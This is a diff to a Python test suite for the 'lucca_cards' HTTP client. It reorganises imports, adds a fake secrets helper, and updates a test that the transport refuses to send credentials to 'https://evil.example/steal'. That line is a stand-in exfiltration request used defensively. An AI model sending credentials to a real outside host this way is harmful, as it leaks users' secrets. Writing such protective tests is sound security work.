@@ -23,7 +23,10 @@ from lucca_cards import (
     TransportError,
     ValidationError,
 )
-from lucca_cards._http import HeaderAuth, Transport, retry_after_seconds
+from lucca_cards._auth import HeaderAuth
+from lucca_cards._http import Transport
+from lucca_cards._retry import retry_after_seconds
+from lucca_cards.errors import UnexpectedResponseError
 
 BASE = "https://tenant.example"
 KEY = f"{SECRET_MARK}-key"
@@ -42,6 +45,9 @@ class CountingAuth:
     def refresh(self) -> bool:
         self.refreshes += 1
         return self.renewable
+
+    def secrets(self) -> list[str]:
+        return [f"{SECRET_MARK}-{n}" for n in range(self.refreshes + 1)]
 
 
 def transport(clock: FakeClock, auth: Any = None, **kwargs: Any) -> Transport:
@@ -293,7 +299,9 @@ def test_empty_body_decodes_to_none(clock: FakeClock) -> None:
 
 
 def test_refuses_to_send_credentials_to_another_host(clock: FakeClock) -> None:
-    with pytest.raises(TransportError, match="refusing to send credentials"):
+    with pytest.raises(UnexpectedResponseError, match=(
+            r"GET /steal was not sent: https://evil.example is not the configured "
+            r"https://tenant.example")):
         transport(clock).request_json("GET", "https://evil.example/steal")
 
 
@@ -317,6 +325,6 @@ def test_secrets_stay_out_of_logs_errors_and_reprs(
 
 def test_retry_after_is_none_when_absent_or_garbage() -> None:
     response = requests.Response()
-    assert retry_after_seconds(response) is None
+    assert retry_after_seconds(response.headers) is None
     response.headers["Retry-After"] = "soon"
-    assert retry_after_seconds(response) is None
+    assert retry_after_seconds(response.headers) is None
